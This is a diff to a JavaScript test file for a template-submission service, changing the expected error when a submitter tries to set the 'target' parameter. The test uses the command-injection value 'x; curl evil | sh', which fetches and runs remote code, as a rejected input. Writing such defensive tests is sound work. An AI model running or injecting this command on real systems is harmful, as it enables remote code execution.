@@ -152,7 +152,9 @@ describe("open values of signed templates", () => {
   test("cannot be set by every submitter, but may be stated as the branch has them", async () => {
     const evil = { parameters: { target: "x; curl evil | sh" } };
 
-    await expect(farm.submit(evil, submitter)).rejects.toThrow("what target is there its branch");
+    await expect(farm.submit(evil, submitter)).rejects.toThrow(
+      "only its settings can give a value to target",
+    );
     expect((await farm.submit({ parameters: { target: "staging" } }, submitter)).isNew).toBe(true);
   });
 
